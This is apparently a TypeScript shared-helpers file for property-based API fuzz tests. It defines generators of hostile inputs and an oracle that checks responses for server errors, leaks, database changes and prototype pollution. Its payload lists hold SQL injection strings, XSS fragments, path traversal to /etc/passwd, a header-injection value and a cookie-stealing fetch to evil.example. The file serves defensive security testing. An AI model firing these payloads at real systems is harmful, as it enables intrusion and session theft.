/**
 * The pieces the API fuzzers share: hostile values (wrong types, huge strings, deep nesting,
 * unicode with RTL / zero-width / emoji, SQL and script fragments, prototype-pollution keys),
 * request mutations derived from an endpoint's schema and a valid sample, and the oracle every
 * answer must satisfy:
 *
 *   - no status ≥ 500, and nothing logged as an error;
 *   - a 4xx is the `{data: null, errors: [...], notification: {type: 'error'}}` envelope, JSON,
 *     with no stack trace and no file path;
 *   - nothing stored changed (every table but the rate-limit counters, fingerprinted), unless the
 *     endpoint legitimately stores a valid-but-hostile payload, and then what was stored is the
 *     payload as the contract normalises it (trimmed), byte for byte: never escaped, stripped or
 *     otherwise altered;
 *   - Object.prototype is never polluted.
 *
 * The seed is logged once per file (FUZZ_SEED=… replays a run); fast-check prints the
 * counterexample and its own seed on failure.
 */
import { brotliDecompressSync, gunzipSync } from 'node:zlib'
import fc from 'fast-check'
import { expect } from 'vitest'
import type { z } from 'zod'
import { sql } from 'drizzle-orm'
import { rows } from '../cart/cart-sql'
import { changedTables, tableFingerprints, type HardeningApp } from './hardening-app'

// ---------------------------------------------------------------- seed and count

export function fuzzSeed(file: string): number {
  const seed = process.env.FUZZ_SEED ? Number(process.env.FUZZ_SEED) : (Date.now() ^ (process.pid << 8)) >>> 0
  console.log(`[fuzz] ${file}: seed ${seed} (replay with FUZZ_SEED=${seed})`)
  return seed
}

/** Cases run in this file, by endpoint and status, printed at the end. */
export const counter = { cases: 0, byStatus: new Map<number, number>(), byEndpoint: new Map<string, Map<number, number>>(), current: '' }

const histogram = (m: Map<number, number>) =>
  [...m.entries()]
    .sort((a, b) => a[0] - b[0])
    .map(([s, n]) => `${s}×${n}`)
    .join(' ')

export function report(file: string) {
  const lines = [...counter.byEndpoint.entries()].map(([name, m]) => `  ${name.padEnd(44)} ${histogram(m)}`)
  console.log(`[fuzz] ${file}: ${counter.cases} cases (${histogram(counter.byStatus)})\n${lines.join('\n')}`)
}

// ---------------------------------------------------------------- hostile values

export const SQL_FRAGMENTS = [
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  '" OR 1=1 --',
  '1; SELECT pg_sleep(10)--',
  "' UNION SELECT password_hash, email FROM users --",
  "%' AND 1=0 --",
  '\\',
  '%_%',
  '$1',
  "E'\\\\x00'",
  "');COMMIT;DELETE FROM orders;--",
  '::text',
]

export const SCRIPT_FRAGMENTS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "javascript:alert('x')",
  '<svg onload=alert(1)>',
  '{{7*7}}',
  '${7*7}',
  '</textarea><script>fetch("//evil.example?c="+document.cookie)</script>',
  '../../../../etc/passwd',
  '%2e%2e%2f%2e%2e%2f',
  '\r\nSet-Cookie: access_token=stolen',
]

export const UNICODE_FRAGMENTS = [
  '\u202eevil\u202c', // right-to-left override
  '\u200f\u200e', // RTL / LTR marks
  'a\u200bb\u200cc\u200dd', // zero-width space, non-joiner, joiner
  '\ufeffbom',
  'e\u0301\u0301\u0301', // stacked combining marks
  '👩🏽‍🌾🥬🍅', // emoji with ZWJ and skin tone
  '𝕄𝕒𝕝𝕖𝕨𝕒', // astral plane letters
  'مرحبا بالسوق', // Arabic
  'ﷺ﷽',
  '农场 市场',
  'İstanbul ß ﬁ', // case-mapping traps
  '\u0000', // NUL: PostgreSQL text refuses it
  '\ud800', // a lone surrogate
  '\udfff\ud800',
  '\u0007\u001b[31mred',
  '\u2028\u2029',
]

export const PROTO_KEYS = ['__proto__', 'constructor', 'prototype', '__defineGetter__', 'hasOwnProperty', 'toString', 'valueOf']
export const PRIVILEGE_KEYS = ['id', 'userId', 'user_id', 'roles', 'isAdmin', 'admin', 'status', 'price', 'stock', 'createdAt', 'emailVerified']

const fragment = fc.constantFrom(...SQL_FRAGMENTS, ...SCRIPT_FRAGMENTS, ...UNICODE_FRAGMENTS)

/** A string a hostile client might send: fragments, random unicode (any code point), mixtures. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fragment },
  { weight: 2, arbitrary: fc.array(fragment, { minLength: 1, maxLength: 4 }).map((a) => a.join(' ')) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.tuple(fc.string({ maxLength: 8 }), fragment, fc.string({ maxLength: 8 })).map(([a, b, c]) => a + b + c) },
  { weight: 1, arbitrary: fc.constantFrom('', ' ', '   \t\n', 'null', 'undefined', 'NaN', 'true', '0', '-1', '[]', '{}') },
)

/**
 * Large values travel through fast-check as small descriptions (so a counterexample prints in
 * one line, and printing a 3 000-deep value does not overflow the stack) and become the real
 * value when the request is built (`expand`).
 */
export class Huge {
  constructor(
    readonly length: number,
    readonly unit: string,
  ) {}
  value(): string {
    return this.unit.repeat(Math.ceil(this.length / this.unit.length))
  }
  [fc.toStringMethod]() {
    return `${JSON.stringify(this.unit)}.repeat(≈${this.length})`
  }
}

export class Deep {
  constructor(
    readonly depth: number,
    readonly arrays: boolean,
  ) {}
  value(): unknown {
    let v: unknown = 'bottom'
    for (let i = 0; i < this.depth; i++) v = this.arrays ? [v] : { a: v }
    return v
  }
  [fc.toStringMethod]() {
    return `${this.arrays ? '[' : '{a:'}…${this.depth} deep`
  }
}

/** The real value of a generated one (Huge and Deep descriptions become strings and nests). */
export function expand(value: unknown): unknown {
  if (value instanceof Huge || value instanceof Deep) return value.value()
  return value
}

/** Long strings: past every field's bound, some past the 100 KiB body limit (413). */
export const hugeString: fc.Arbitrary<Huge> = fc
  .tuple(fc.constantFrom(300, 1_001, 5_001, 20_000, 60_000, 110_000), fc.constantFrom('x', 'é', '👩🏽‍🌾', "'; --", '<b>'))
  .map(([n, unit]) => new Huge(n, unit))

/** A value nested `depth` levels deep (arrays or objects). */
export const deepValue: fc.Arbitrary<Deep> = fc.tuple(fc.integer({ min: 20, max: 3_000 }), fc.boolean()).map(([depth, arrays]) => new Deep(depth, arrays))

/** Anything but the right type. */
export const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  fc.integer(),
  fc.constantFrom(0, -1, -0, 1.5, 2 ** 31, 2 ** 53 + 2, -(2 ** 63), 1e308, -1e308, Number.MIN_VALUE),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.oneof(fc.integer(), fc.string({ maxLength: 5 })), { maxLength: 4 }),
  fc.dictionary(fc.string({ maxLength: 6 }), fc.integer(), { maxKeys: 3 }),
  fc.constantFrom('1e400', '-0', '0x10', ' 1', '1_000', 'Infinity', '١٢٣'), // numbers as strings, Arabic-Indic digits
)

/** Any value a field may receive. */
export const anyValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 5, arbitrary: hostileString },
  { weight: 4, arbitrary: wrongType },
  { weight: 1, arbitrary: hugeString },
  { weight: 1, arbitrary: deepValue },
)

/** Query-string values: numbers out of range, odd spellings, hostile text, malformed percent-encoding. */
export const queryValue: fc.Arbitrary<{ raw: string } | { text: string }> = fc.oneof(
  { weight: 3, arbitrary: hostileString.map((text) => ({ text })) },
  {
    weight: 3,
    arbitrary: fc
      .constantFrom('-1', '0', '1', '1.5', '1e9', '1e400', 'NaN', 'Infinity', '0x10', '99999999999999999999', '', 'true', 'TRUE', 'asc', 'DESC', 'name', 'price,stock')
      .map((text) => ({ text })),
  },
  { weight: 1, arbitrary: fc.constantFrom('%', '%zz', '%E0%A4%A', '%ED%A0%80', '%00', '%C0%AF', '%25%30%30', '+', '%2B%2B').map((raw) => ({ raw })) },
  { weight: 1, arbitrary: fc.constantFrom(300, 3_000, 9_000).map((n) => ({ text: 'q'.repeat(n) })) },
  {
    weight: 1,
    arbitrary: fc
      .constantFrom('0000-01-01T00:00:00Z', '2026-02-30T00:00:00Z', '2026-01-01T00:00:00+23:59', '2026-01-01T24:30:00Z', '9999-12-31T23:59:59.999999-12:00', '2026-01-01')
      .map((text) => ({ text })),
  },
)

// ---------------------------------------------------------------- encoding

/** encodeURIComponent that also encodes lone surrogates (as the invalid UTF-8 a raw client could send). */
export function encodeComponent(value: string): string {
  let out = ''
  for (const ch of value) {
    try {
      out += encodeURIComponent(ch)
    } catch {
      out += '%ED%A0%80'
    }
  }
  return out
}

// ---------------------------------------------------------------- schema introspection

type Json = unknown

/** The keys a zod object schema (or union of objects) knows, for "drop a key" and "wrong type". */
export function schemaKeys(schema: z.ZodType | undefined): string[] {
  if (!schema) return []
  const def = (schema as unknown as { _zod: { def: Record<string, unknown> } })._zod.def
  switch (def.type) {
    case 'object':
      return Object.keys(def.shape as object)
    case 'union':
      return [...new Set((def.options as z.ZodType[]).flatMap((o) => schemaKeys(o)))]
    case 'pipe':
      return schemaKeys(def.in as z.ZodType)
    default:
      return []
  }
}

/** Every path into a JSON value (objects and arrays), the root excluded. */
export function pathsOf(value: Json, prefix: (string | number)[] = []): (string | number)[][] {
  if (value === null || typeof value !== 'object') return []
  const entries = Array.isArray(value) ? value.map((v, i) => [i, v] as const) : Object.entries(value)
  return entries.flatMap(([k, v]) => [[...prefix, k], ...pathsOf(v, [...prefix, k])])
}

function setAt(root: Json, path: (string | number)[], value: Json | typeof DROP): Json {
  if (path.length === 0) return value === DROP ? undefined : value
  const copy = (Array.isArray(root) ? [...(root as Json[])] : root !== null && typeof root === 'object' ? { ...(root as object) } : {}) as Record<string | number, Json>
  const [head, ...rest] = path as [string | number, ...(string | number)[]]
  if (rest.length === 0) {
    if (value === DROP) {
      if (Array.isArray(copy)) copy.splice(Number(head), 1)
      else delete copy[head]
    } else {
      Object.defineProperty(copy, head, { value, enumerable: true, writable: true, configurable: true })
    }
    return copy
  }
  Object.defineProperty(copy, head, { value: setAt(copy[head], rest, value), enumerable: true, writable: true, configurable: true })
  return copy
}
const DROP = Symbol('drop')

// ---------------------------------------------------------------- requests and mutations

export interface Request {
  method: string
  /** Path with the values of its parameters, already encoded. */
  path: string
  query: string[]
  headers: Record<string, string>
  /** A JSON value to send, or `raw` text. */
  body?: { json: Json } | { raw: string }
}

export type Mutation =
  | { kind: 'set'; path: (string | number)[]; value: Json }
  | { kind: 'drop'; path: (string | number)[] }
  | { kind: 'extra'; key: string; value: Json }
  | { kind: 'replace'; value: Json }
  | { kind: 'raw'; text: string }
  | { kind: 'query'; key: string; value: { raw: string } | { text: string }; repeat: boolean }
  | { kind: 'param'; name: string; value: string }
  | { kind: 'header'; name: string; value: string }
  | { kind: 'contentType'; value: string | null }

export interface Sample {
  /** The route pattern's parameters, filled with valid values. */
  params?: Record<string, string>
  body?: Json
  query?: Record<string, string>
  headers?: Record<string, string>
}

export interface MutationSource {
  method: string
  route: string
  bodySchema?: z.ZodType
  querySchema?: z.ZodType
  sample: Sample
  /** Extra parameter values worth trying (another shopper's ids, ids that do not exist…). */
  paramValues?: Record<string, string[]>
}

const HEADER_CHAR = fc.oneof(fc.integer({ min: 0x20, max: 0x7e }), fc.integer({ min: 0x80, max: 0xff })).map((n) => String.fromCharCode(n))
const headerText = fc.oneof(fc.string({ unit: HEADER_CHAR, maxLength: 60 }), fc.constantFrom("' OR 1=1 --", '<script>alert(1)</script>', '../../etc/passwd', 'x'.repeat(8_000), 'null', '*', '', ' '))

export const HEADER_CASES: fc.Arbitrary<{ name: string; value: string }> = fc.oneof(
  fc.record({
    name: fc.constant('authorization'),
    value: fc.oneof(
      headerText.map((v) => `Bearer ${v}`),
      fc.constantFrom('Bearer', 'Basic YWRtaW46YWRtaW4=', 'Bearer ' + 'A'.repeat(43), 'bearer  x', 'Token abc'),
    ),
  }),
  fc.record({
    name: fc.constant('cookie'),
    value: fc.oneof(
      headerText.map((v) => `access_token=${v}`),
      headerText.map((v) => `refresh_token=${v}; access_token=${v}`),
      headerText,
    ),
  }),
  fc.record({ name: fc.constant('accept-language'), value: fc.oneof(headerText, fc.constantFrom('ar', 'fr-FR;q=0.9, *;q=0.1', 'xx-ZZ', 'ar;q=nan', ',,,,')) }),
  fc.record({ name: fc.constant('x-store-id'), value: fc.oneof(headerText, fc.constantFrom('jnb', 'JNB', 'kgl', 'nowhere', "jnb' OR 1=1")) }),
  fc.record({ name: fc.constant('x-store-location'), value: headerText }),
  fc.record({ name: fc.constant('idempotency-key'), value: fc.oneof(headerText, fc.constantFrom('k'.repeat(201), 'ok-key-1234', ' ')) }),
  fc.record({ name: fc.constant('origin'), value: fc.oneof(headerText, fc.constantFrom('null', 'https://evil.example', 'http://shop.example.evil.example', 'file://')) }),
  fc.record({ name: fc.constant('sec-fetch-site'), value: fc.constantFrom('cross-site', 'same-site', 'none', 'same-origin', 'x') }),
  fc.record({ name: fc.constant('if-none-match'), value: fc.oneof(headerText, fc.constantFrom('*', 'W/"x"', '"a", "b"')) }),
  fc.record({ name: fc.constant('accept-encoding'), value: fc.oneof(headerText, fc.constantFrom('br;q=2', 'gzip, deflate, br, zstd', 'identity;q=0, *;q=0')) }),
  fc.record({ name: fc.constant('x-forwarded-for'), value: fc.oneof(headerText, fc.constantFrom('127.0.0.1', '::1, 10.0.0.1')) }),
  fc.record({ name: fc.constant('accept'), value: fc.oneof(headerText, fc.constantFrom('text/html', 'application/json', '*/*')) }),
  fc.record({ name: fc.constantFrom('x-http-method-override', 'x-original-url', 'x-rewrite-url', 'x-user-id'), value: fc.constantFrom('DELETE', '/api/orders', 'admin', '1') }),
)

export const CONTENT_TYPES = fc.constantFrom(
  null,
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/xml',
  'application/jsonx',
  'json',
  'APPLICATION/JSON',
  'application/json; charset=utf-16',
  'application/vnd.api+json',
  'application/json, text/html',
  'text/html; application/json',
)

const RAW_BODIES = fc.oneof(
  fc.constantFrom(
    '',
    '{',
    '{"a":',
    '{"a":1,}',
    "{'a':1}",
    '[1,2,3]',
    '"a string"',
    '42',
    'null',
    'true',
    '{"a":1}{"b":2}',
    '\ufeff{}',
    '{"__proto__":{"polluted":"yes"}}',
    '{"constructor":{"prototype":{"polluted":"yes"}}}',
    '{"a":NaN}',
    '{"a":Infinity}',
    '{"a":1e999999}',
    '{"a":"\\ud800"}',
    '{"a":"\\u0000"}',
    `{"a":${'['.repeat(10_000)}${']'.repeat(10_000)}}`,
    `${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`,
  ),
  fc.string({ unit: 'binary', maxLength: 50 }),
)

/** Mutations of one endpoint's sample request, derived from its schemas and the sample's own fields. */
export function mutationArb(source: MutationSource): fc.Arbitrary<Mutation> {
  const bodyPaths = pathsOf(source.sample.body)
  const bodyKeys = [...new Set([...schemaKeys(source.bodySchema), ...bodyPaths.filter((p) => p.length === 1).map((p) => String(p[0]))])]
  const allPaths = [...bodyPaths, ...bodyKeys.map((k) => [k])]
  const queryKeys = [...new Set([...schemaKeys(source.querySchema), ...Object.keys(source.sample.query ?? {}), 'page', 'perPage', 'sortBy', 'searchKeyword'])]
  const params = Object.keys(source.sample.params ?? {})
  const options: fc.WeightedArbitrary<Mutation>[] = []
  const hasBody = source.sample.body !== undefined
  if (hasBody && allPaths.length) {
    options.push({ weight: 6, arbitrary: fc.record({ kind: fc.constant('set' as const), path: fc.constantFrom(...allPaths), value: anyValue }) })
    options.push({ weight: 2, arbitrary: fc.record({ kind: fc.constant('drop' as const), path: fc.constantFrom(...allPaths) }) })
  }
  if (hasBody) {
    options.push({ weight: 2, arbitrary: fc.record({ kind: fc.constant('extra' as const), key: fc.oneof(fc.constantFrom(...PROTO_KEYS, ...PRIVILEGE_KEYS), hostileString), value: anyValue }) })
    options.push({ weight: 1, arbitrary: fc.record({ kind: fc.constant('replace' as const), value: fc.oneof(wrongType, fc.jsonValue({ maxDepth: 3 }), deepValue) }) })
    options.push({ weight: 2, arbitrary: fc.record({ kind: fc.constant('raw' as const), text: RAW_BODIES }) })
  }
  if (source.method !== 'GET' && source.method !== 'DELETE') {
    options.push({ weight: 1, arbitrary: fc.record({ kind: fc.constant('contentType' as const), value: CONTENT_TYPES }) })
  }
  options.push({
    weight: source.method === 'GET' ? 6 : 1,
    arbitrary: fc.record({ kind: fc.constant('query' as const), key: fc.oneof(fc.constantFrom(...queryKeys), hostileString), value: queryValue, repeat: fc.boolean() }),
  })
  if (params.length) {
    const extra = Object.values(source.paramValues ?? {}).flat()
    options.push({
      weight: 3,
      arbitrary: fc.record({
        kind: fc.constant('param' as const),
        name: fc.constantFrom(...params),
        value: fc.oneof(
          hostileString,
          fc.constantFrom(300, 3_000).map((n) => 'p'.repeat(n)),
          ...(extra.length ? [fc.constantFrom(...extra)] : []),
        ),
      }),
    })
  }
  options.push({ weight: 2, arbitrary: HEADER_CASES.map(({ name, value }) => ({ kind: 'header' as const, name, value })) })
  return fc.oneof(...options)
}

/** The sample request with mutations applied. */
export function buildRequest(source: MutationSource, mutations: Mutation[]): Request {
  let body: Request['body'] = source.sample.body === undefined ? undefined : { json: source.sample.body }
  const params = { ...source.sample.params }
  const query: string[] = Object.entries(source.sample.query ?? {}).map(([k, v]) => `${encodeComponent(k)}=${encodeComponent(v)}`)
  const headers: Record<string, string> = { ...source.sample.headers }
  if (body) headers['content-type'] = 'application/json'
  for (const m of mutations) {
    switch (m.kind) {
      case 'set':
        body = { json: setAt(body && 'json' in body ? body.json : {}, m.path, expand(m.value)) }
        break
      case 'drop':
        body = { json: setAt(body && 'json' in body ? body.json : {}, m.path, DROP) }
        break
      case 'extra': {
        const base: Json = body && 'json' in body && body.json !== null && typeof body.json === 'object' && !Array.isArray(body.json) ? body.json : {}
        body = { json: setAt(base, [m.key], expand(m.value)) }
        break
      }
      case 'replace':
        body = { json: expand(m.value) }
        break
      case 'raw':
        body = { raw: m.text }
        break
      case 'contentType':
        if (m.value === null) delete headers['content-type']
        else headers['content-type'] = m.value
        break
      case 'query': {
        const value = 'raw' in m.value ? m.value.raw : encodeComponent(m.value.text)
        const pair = `${encodeComponent(m.key)}=${value}`
        query.push(pair)
        if (m.repeat) query.push(pair)
        break
      }
      case 'param':
        params[m.name] = m.value
        break
      case 'header':
        headers[m.name] = m.value
        break
    }
  }
  const path = source.route.replace(/:([A-Za-z]+)/g, (_, name: string) => encodeComponent(params[name] ?? 'x'))
  return { method: source.method, path, query, headers, body }
}

export function bodyText(body: Request['body']): string | undefined {
  if (!body) return undefined
  if ('raw' in body) return body.raw
  return JSON.stringify(body.json) ?? 'null'
}

// ---------------------------------------------------------------- the oracle

export interface Answer {
  status: number
  text: string
  json: { data: unknown; errors: { field: string | null; code: string; message: string }[] | null; notification: { type: string; code: string; title: string; message: string } | null } | null
  headers: Headers
}

export async function send(h: HardeningApp, r: Request): Promise<Answer> {
  const url = r.query.length ? `${r.path}?${r.query.join('&')}` : r.path
  const res = await h.request(r.method, url, { headers: r.headers, body: bodyText(r.body) })
  const raw = Buffer.from(await res.arrayBuffer())
  const encoding = res.headers.get('content-encoding')
  const text = (encoding === 'br' ? brotliDecompressSync(raw) : encoding === 'gzip' ? gunzipSync(raw) : raw).toString('utf8')
  let json: Answer['json']
  try {
    json = text ? (JSON.parse(text) as Answer['json']) : null
  } catch {
    json = null
  }
  counter.cases++
  counter.byStatus.set(res.status, (counter.byStatus.get(res.status) ?? 0) + 1)
  const mine = counter.byEndpoint.get(counter.current) ?? new Map<number, number>()
  mine.set(res.status, (mine.get(res.status) ?? 0) + 1)
  counter.byEndpoint.set(counter.current, mine)
  return { status: res.status, text, json, headers: res.headers }
}

/** What a database error or a stack trace looks like in an answer (none of the hostile inputs contains these). */
const LEAKS = [
  /\n\s+at /,
  /node_modules/,
  /\/work\//,
  /\.ts:\d+/,
  /Failed query/i,
  /syntax error at or near/i,
  /duplicate key value/i,
  /violates (?:unique|foreign key|check|not-null)/i,
  /invalid byte sequence/i,
  /out of range for type/i,
]

/** The shape every answer under /api has; for a 4xx, the error envelope. */
export function expectEnvelope(a: Answer, label: string) {
  expect(a.status, `${label}: ${a.text.slice(0, 300)}`).toBeLessThan(500)
  if (a.status === 304 || a.status === 204) return
  expect(a.headers.get('content-type') ?? '', label).toMatch(/^application\/json/)
  expect(a.json, `${label}: not JSON: ${a.text.slice(0, 200)}`).not.toBeNull()
  for (const leak of LEAKS) expect(a.text, `${label}: the answer leaks ${leak}`).not.toMatch(leak)
  if (a.status >= 400) {
    const body = a.json!
    expect(Object.keys(body).sort(), label).toEqual(['data', 'errors', 'notification'])
    expect(body.data, label).toBeNull()
    expect(Array.isArray(body.errors) && body.errors.length > 0, `${label}: errors`).toBe(true)
    for (const e of body.errors!) {
      expect(typeof e.code, label).toBe('string')
      expect(typeof e.message, label).toBe('string')
      expect(e.field === null || typeof e.field === 'string', label).toBe(true)
    }
    expect(body.notification, label).toMatchObject({ type: 'error', code: expect.any(String), title: expect.any(String), message: expect.any(String) })
  } else {
    expect(Object.keys(a.json!), label).toEqual(expect.arrayContaining(['data', 'errors', 'notification']))
    expect(a.json!.errors, label).toBeNull()
  }
}

export function expectNoPollution() {
  const probe = {} as Record<string, unknown>
  expect(probe.polluted, 'Object.prototype was polluted').toBeUndefined()
  expect(Object.getOwnPropertyNames(Object.prototype)).not.toContain('polluted')
}

/**
 * Tracks the database between cases: `check` fingerprints it after a case and answers which
 * tables changed since the last accepted state; `accept` makes the current state the baseline.
 */
export function stateTracker(h: HardeningApp) {
  let baseline: Record<string, string> | null = null
  let lsn = ''
  // Every write, even one rolled back, advances the WAL; a case that did not move it changed
  // nothing, and the full fingerprint (several ms) is only taken when it moved.
  const walPosition = async () => (await rows<{ lsn: string }>(h.db, sql`SELECT pg_current_wal_lsn()::text AS lsn`))[0]!.lsn
  return {
    async reset() {
      lsn = await walPosition()
      baseline = await tableFingerprints(h.db)
    },
    async changed(): Promise<string[]> {
      if (!baseline) await this.reset()
      const position = await walPosition()
      if (position === lsn) return []
      const now = await tableFingerprints(h.db)
      lsn = await walPosition()
      const diff = changedTables(baseline!, now)
      baseline = now
      return diff
    },
  }
}

/** The text of every error line the app logged since `from`, to show with a failure. */
export function newErrors(h: HardeningApp, from: number): string[] {
  return h
    .errors()
    .slice(from)
    .map((l) => `${l.message}: ${String((l.fields?.error as Error | undefined)?.message ?? '')}`)
}
